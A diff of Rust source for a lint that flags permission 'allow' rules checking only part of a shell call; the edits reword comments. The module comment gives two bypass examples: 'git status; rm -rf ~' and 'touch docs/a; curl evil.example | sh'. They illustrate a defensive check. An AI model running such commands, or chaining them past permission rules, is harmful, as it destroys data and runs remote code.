@@ -1,5 +1,5 @@
-//! An `allow` that tests a part of what a call does, and allows the rest of it unseen: `git status; rm -rf ~` runs
-//! `git status` too, and `touch docs/a; curl evil.example | sh` writes below `docs`.
+//! An `allow` that tests only part of a call and allows the rest unseen: `git status; rm -rf ~` runs `git status` too,
+//! and `touch docs/a; curl evil.example | sh` writes below `docs`.
 
 use super::calls::{Call, Calls, Lacking};
 use super::{Lint, Written};
@@ -30,8 +30,7 @@ fn check(written: &Written<'_>, rule: &Rule, found: &mut Vec<Diagnostic>) {
     }
 }
 
-/// Tells whether a condition, or its opposite, holds for a whole text or for none: there is no rest that nobody looks
-/// at.
+/// Whether a condition, or its negation, considers the whole of a call, so that no part of it is left untested.
 fn is_covered(condition: &Condition, is_negated: bool, call: Option<&Call>) -> bool {
     if call.is_some_and(|call| call.comes_to(condition, Lacking::Decides) == Some(is_negated)) {
         return true;
@@ -53,7 +52,7 @@ fn is_covered(condition: &Condition, is_negated: bool, call: Option<&Call>) -> b
     }
 }
 
-/// Returns the first test that leaves the rest of a text open.
+/// Returns the first test that leaves the rest of a call untested.
 fn part<'c>(condition: &'c Condition, is_negated: bool, call: Option<&Call>) -> Option<&'c Condition> {
     if is_covered(condition, is_negated, call) {
         return None;
@@ -100,10 +99,10 @@ fn finding(written: &Written<'_>, part: &Condition) -> Diagnostic {
     }
 }
 
-/// Returns the tools that do this to a file and run no command.
+/// Returns the tools that access a file in this way and run no command.
 fn file_tools(verb: FileVerb) -> Vec<&'static str> {
     let is_so = |tool: &&crate::schema::ToolSpec| {
-        // Those of one file, and of nothing else, which everybody knows.
+        // Only the well-known tools that access exactly one file.
         let [file] = tool.files else { return false };
         let does = match verb {
             FileVerb::Reads => file.reads && !file.writes,
